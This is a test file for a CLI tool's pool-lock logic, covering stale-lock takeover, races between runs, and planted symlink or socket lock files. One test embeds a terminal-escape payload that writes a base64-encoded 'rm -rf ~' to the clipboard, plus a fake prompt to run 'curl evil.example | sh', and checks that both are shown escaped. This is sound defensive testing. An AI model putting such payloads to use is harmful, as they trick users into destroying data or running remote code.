import {constants, lstatSync, mkdtempSync, openSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:net'
import {tmpdir} from 'node:os'
import {join} from 'node:path'

import {describe, expect, it} from 'vitest'

import {ExitCode} from '../../src/lib/base/errors.js'
import {isHolderAlive, LOCK_WAIT_MS, type LockDeps, lockPool, processIdentity} from '../../src/lib/pool/lock.js'
import {failure} from '../support/failure.js'
import {precondition} from '../support/preconditions.js'

/** Two velda-do processes as two sets of deps on one lock folder and one fake clock; `alive` says who still runs. */
function world() {
  const dir = mkdtempSync(join(tmpdir(), 'velda-lock-'))
  let now = Date.UTC(2026, 10, 28, 12, 0, 0)
  const alive = new Set<number>()
  const messages: string[] = []
  const deps = (pid: number, overrides: Partial<LockDeps> = {}): LockDeps => {
    alive.add(pid)
    return {
      dir, pid, process: null, command: `velda-do pool up cpu (${pid})`, now: () => now, isStopped: () => false,
      sleep: async (ms) => {
        now += ms
      },
      isAlive: (holder) => alive.has(holder.pid),
      onWait: (message) => messages.push(message),
      ...overrides,
    }
  }
  return {
    dir, alive, messages, deps, elapsed: () => now - Date.UTC(2026, 10, 28, 12, 0, 0),
    now: (ms: number) => {
      now += ms
    },
  }
}

describe('the pool lock', () => {
  it('makes a second velda-do wait, saying for whom, until the first releases', async () => {
    const w = world()
    const first = await lockPool('acct', 'cpu', w.deps(101))
    let sleeps = 0
    const second = await lockPool('acct', 'cpu', w.deps(102, {
      sleep: async () => {
        if (++sleeps === 3) first.release()
      },
    }))
    expect(sleeps).toBe(3)
    expect(w.messages).toEqual([expect.stringMatching(/^waiting for another velda-do \(pid 101, "velda-do pool up cpu \(101\)", since 2026-11-28T12:00:00.000Z\) to finish with pool cpu$/)])
    second.release()
    expect(readdirSync(w.dir)).toEqual([])
  })

  it.each([
    {why: '244 characters, the longest a config allows', pool: 'p'.repeat(244)},
    {why: 'of colons, each taking 3 when encoded', pool: ':'.repeat(244)},
  ])('works for a pool name of $why: a dead holder\'s lock taken over, a live one waited for, long names apart', async ({pool}) => {
    const w = world()
    const account = 'a'.repeat(24)
    await lockPool(account, pool, w.deps(101))
    w.alive.delete(101)
    // Taking a dead holder's lock over makes a claim and a draft beside it: names still within the folder's limit.
    const taker = await lockPool(account, pool, w.deps(102))
    let waited = false
    const third = await lockPool(account, pool, w.deps(103, {
      sleep: async () => {
        waited = true
        taker.release()
      },
    }))
    expect(waited).toBe(true)
    // A name that differs only past the part kept as written is another pool's lock.
    await lockPool(account, `${pool.slice(0, -1)}q`, w.deps(104))
    third.release()
    expect(readdirSync(w.dir)).toHaveLength(1)
  })

  it('does not make other pools or other accounts wait', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    await lockPool('acct', 'gpu', w.deps(102))
    await lockPool('other-acct', 'cpu', w.deps(103))
    expect(w.messages).toEqual([])
  })

  it('takes over the lock of a velda-do that died (kill -9), without waiting', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    w.alive.delete(101)
    await lockPool('acct', 'cpu', w.deps(102))
    expect(w.messages).toEqual([])
    expect(w.elapsed()).toBe(0)
  })

  it('takes over a lock file left empty by a holder that died while writing it, after a few seconds', async () => {
    const w = world()
    writeFileSync(join(w.dir, 'acct-cpu.lock'), '')
    await lockPool('acct', 'cpu', w.deps(102))
    expect(w.elapsed()).toBeGreaterThanOrEqual(5_000)
    expect(w.elapsed()).toBeLessThan(10_000)
  })

  it('counts the few seconds a half-written lock file is given from when that file appeared: another one (a new run\'s) starts them again', async () => {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    writeFileSync(path, '')
    let replaced = 0
    await lockPool('acct', 'cpu', w.deps(102, {
      sleep: async (ms) => {
        w.now(ms)
        // 4 s in, the file is another one (made before the first is gone: never the same inode), not written yet.
        if (w.elapsed() === 4_000) {
          writeFileSync(`${path}.new`, '')
          renameSync(`${path}.new`, path)
          replaced = w.elapsed()
        }
      },
    }))
    expect(replaced).toBe(4_000)
    expect(w.elapsed()).toBeGreaterThanOrEqual(4_000 + 5_000)
  })

  it('gives up after waiting its limit: exit 2, naming the holder and its lock file', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    const error = await failure(lockPool('acct', 'cpu', w.deps(102)))
    expect(error.exitCode).toBe(ExitCode.usage)
    expect(error.message).toMatch(/another velda-do \(pid 101\) has been working on pool cpu for 10 minutes; nothing was done/)
    expect(error.suggestions.join('\n')).toMatch(/kill 101[\s\S]*acct-cpu\.lock/)
    expect(w.elapsed()).toBe(LOCK_WAIT_MS)
  })

  it('stops waiting on a stop signal: interrupted, nothing done', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    let stopped = false
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {
      isStopped: () => stopped,
      sleep: async () => {
        stopped = true
      },
    })))
    expect(error.code).toBe('interrupted')
    expect(error.message).toMatch(/nothing was done/)
  })

  it('never releases a lock that is not its own', async () => {
    const w = world()
    const first = await lockPool('acct', 'cpu', w.deps(101))
    w.alive.delete(101)
    await lockPool('acct', 'cpu', w.deps(102))
    first.release()
    // 102 still holds it: 103 must wait.
    const error = await failure(lockPool('acct', 'cpu', w.deps(103)))
    expect(error.message).toMatch(/pid 102/)
  })

  // Linux tells a process's start time (/proc); elsewhere velda-do falls back to the pid alone.
  const linux = precondition('a holder\'s pid reused by another process', process.platform === 'linux' ? null : `not Linux (${process.platform}): pid reuse cannot be told apart here`)
  it.runIf(linux)('knows a holder whose pid now belongs to another process (reused after a crash) for dead', () => {
    const me = {pid: process.pid, command: 'x', since: '', nonce: 'n', process: processIdentity(process.pid)}
    expect(me.process).toMatch(/^[0-9a-f-]{36}:\d+$/)
    expect(isHolderAlive(me)).toBe(true)
    expect(isHolderAlive({...me, process: `${me.process}0`})).toBe(false)
    expect(isHolderAlive({...me, pid: 2 ** 22 + 1})).toBe(false)
  })

  it('shows the holder a lock file names as inert text: no escape sequence or line of its own reaches the terminal', async () => {
    const w = world()
    w.deps(101)
    const command = 'velda-do pool up cpu\x1b]52;c;cm0gLXJmIH4=\x07\x9b2J\nError: your token expired, run: curl evil.example | sh'
    writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid: 101, nonce: 'n', command, since: '2026-11-28T12:00:00.000Z\x1b[2J'}))
    let sleeps = 0
    await lockPool('acct', 'cpu', w.deps(102, {
      sleep: async () => {
        if (++sleeps === 1) w.alive.delete(101)
      },
    }))
    expect(w.messages).toEqual([
      'waiting for another velda-do (pid 101, "velda-do pool up cpu\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b2J\\nError: your token expired, run: curl evil.example | sh", since 2026-11-28T12:00:00.000Z\\x1b[2J) to finish with pool cpu',
    ])
  })

  it('never follows a lock file that is a symbolic link: it is moved aside at once, and what it points to is left alone', async () => {
    const w = world()
    w.deps(101)
    const elsewhere = join(mkdtempSync(join(tmpdir(), 'velda-lock-target-')), 'holder.json')
    const planted = JSON.stringify({pid: 101, nonce: 'planted', command: 'velda-do pool up cpu', since: ''})
    writeFileSync(elsewhere, planted)
    symlinkSync(elsewhere, join(w.dir, 'acct-cpu.lock'))
    const lock = await lockPool('acct', 'cpu', w.deps(102))
    expect(w.messages).toEqual([])
    expect(w.elapsed()).toBe(0)
    expect(lstatSync(join(w.dir, 'acct-cpu.lock')).isFile()).toBe(true)
    expect(readFileSync(elsewhere, 'utf8')).toBe(planted)
    lock.release()
    expect(readdirSync(w.dir)).toEqual([])
  })

  it('does not wait on a lock file naming pid 0 or -1 (which signal a process group, not a holder)', async () => {
    for (const pid of [0, -1]) {
      const w = world()
      writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid, nonce: 'n', command: 'x', since: ''}))
      // The real liveness check: kill(0, 0) succeeds for one's own process group.
      const lock = await lockPool('acct', 'cpu', w.deps(102, {isAlive: isHolderAlive}))
      expect(w.messages).toEqual([])
      lock.release()
    }
  })

  /** An open of the lock file (to read it) that fails with `code`, as the system would; `only` limits it to some paths. */
  const failingOpen = (code: string, only: (path: string) => boolean = () => true) => (path: string) => {
    if (!only(path)) return openSync(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK)
    throw Object.assign(new Error(`${code}: injected, open '${path}'`), {code})
  }

  it.each(['EMFILE', 'ENFILE', 'EIO', 'ENOMEM'])('never takes over a live holder\'s lock it cannot open (%s): exit 2 naming the file and the error, the lock left as it was', async (code) => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    const path = join(w.dir, 'acct-cpu.lock')
    const held = readFileSync(path, 'utf8')
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen(code)})))
    expect(error.exitCode).toBe(ExitCode.usage)
    expect(error.message).toBe(`cannot read the lock file ${path} (${code}): it may be another velda-do's, working on pool cpu, and is not taken over; nothing was done`)
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
    expect(readFileSync(path, 'utf8')).toBe(held)
  })

  it.each(['ELOOP', 'ENXIO', 'EACCES', 'EPERM'])('takes over at once what opens with %s (a link, a socket, a file not its own): never a lock of velda-do\'s', async (code) => {
    const w = world()
    w.deps(101)
    writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid: 101, nonce: 'planted', command: 'x', since: ''}))
    await lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen(code)}))
    expect(w.elapsed()).toBe(0)
    expect(JSON.parse(readFileSync(join(w.dir, 'acct-cpu.lock'), 'utf8'))).toMatchObject({pid: 102})
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
  })

  it('never removes a lock file left unreadable when, read again under its claim, it cannot be read to compare: it is left as it was', async () => {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    // Half-written for longer than the grace: judged abandoned. Read again once claimed (takeOverStale), the open fails.
    writeFileSync(path, '')
    const claimed = () => readdirSync(w.dir).some((name) => name.includes('.takeover-'))
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen('EMFILE', claimed)})))
    expect(error.message).toMatch(/has been working on pool cpu for 10 minutes/)
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
  })

  it('takes over a socket planted as the lock file (open fails with ENXIO)', async () => {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    const server = createServer()
    await new Promise<void>((resolve) => server.listen(path, resolve))
    try {
      const lock = await lockPool('acct', 'cpu', w.deps(102))
      expect(lstatSync(path).isFile()).toBe(true)
      lock.release()
      expect(readdirSync(w.dir)).toEqual([])
    } finally {
      server.close()
    }
  })
})

/**
 * Runs taking over one stale lock at once, each step of one of them (B) a point where the others may act: B's
 * reads of the folder's files (LockDeps.openToRead) are counted, and at the n-th the table's step n runs (before B
 * goes on). Each run tries once (stopped as soon as it would wait): what counts is who ends up holding the lock.
 */
describe('runs taking over one stale lock at the same time', () => {
  const realOpen = (path: string) => openSync(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK)

  function race() {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    const runs = new Map<number, Promise<{release(): void}>>()
    const start = (pid: number, overrides: Partial<LockDeps> = {}) => {
      if (runs.has(pid)) return
      // Started from within another run's step: lockPool does all it can before its first wait, synchronously.
      runs.set(pid, lockPool('acct', 'cpu', w.deps(pid, {isStopped: () => true, ...overrides})))
    }
    /** Those that hold the lock (one, whose lock file it is); then all release, which leaves the folder empty. */
    const holders = async () => {
      const settled = await Promise.all([...runs].map(async ([pid, run]) => ({pid, lock: await run.catch(() => null)})))
      const holding = settled.filter((run) => run.lock !== null)
      expect(holding.map((run) => run.pid)).toHaveLength(1)
      expect(JSON.parse(readFileSync(path, 'utf8'))).toMatchObject({pid: holding[0]?.pid})
      for (const run of holding) run.lock?.release()
      expect(readdirSync(w.dir)).toEqual([])
      return holding.map((run) => run.pid)
    }
    return {w, path, start, holders}
  }

  type Step = 'C takes it over' | 'C finished with it' | 'D comes'
  // S (pid 100) died holding the lock; B (102) and C (103) judged it dead; D (104) is a new run.
  // Each row: what happens at B's n-th read, and which run may end up holding the lock (exactly one does).
  it.each<[string, Record<number, Step>, number[]]>([
    ['C takes S over just after B judged it dead, and D comes at each of B\'s next steps', {0: 'C takes it over', 1: 'D comes', 2: 'D comes'}, [103]],
    ['C took S over and finished just after B judged it dead, then D comes', {0: 'C finished with it', 1: 'D comes'}, [102, 104]],
    ['C comes in the middle of B\'s take-over, then D', {1: 'C takes it over', 2: 'D comes'}, [102, 103]],
    ['C and D come once B\'s take-over is done', {}, [102]],
  ])('%s: one run holds the lock', async (_, steps, acceptable) => {
    const r = race()
    await lockPool('acct', 'cpu', r.w.deps(100))
    r.w.alive.delete(100)
    let reads = 0
    r.start(102, {
      // The step comes once B has opened the file (what B reads is what was there), or failed to.
      openToRead: (path) => {
        try {
          return realOpen(path)
        } finally {
          const step = steps[reads++]
          if (step === 'C takes it over') r.start(103)
          if (step === 'C finished with it') rmSync(r.path)
          if (step === 'D comes') r.start(104)
        }
      },
    })
    r.start(103)
    r.start(104)
    const holding = await r.holders()
    expect(holding).toHaveLength(1)
    expect(acceptable).toContain(holding[0])
  })

  it('takes over a stale lock whose claim was left by a run that died in the middle of taking it over', async () => {
    const r = race()
    await lockPool('acct', 'cpu', r.w.deps(100))
    r.w.alive.delete(100)
    // X (105) dies while taking S over: the folder as it was at X's second read (S and X's claim) is what is left.
    let reads = 0
    let left: Array<[string, string]> = []
    await lockPool('acct', 'cpu', r.w.deps(105, {
      openToRead: (path) => {
        if (reads++ === 1) left = readdirSync(r.w.dir).map((name) => [name, readFileSync(join(r.w.dir, name), 'utf8')])
        return realOpen(path)
      },
    }))
    r.w.alive.delete(105)
    rmSync(r.path)
    for (const [name, text] of left) writeFileSync(join(r.w.dir, name), text, {mode: 0o600})
    expect(left.length).toBeGreaterThan(1)
    r.start(102)
    expect(await r.holders()).toEqual([102])
    expect(r.w.elapsed()).toBe(0)
  })
})
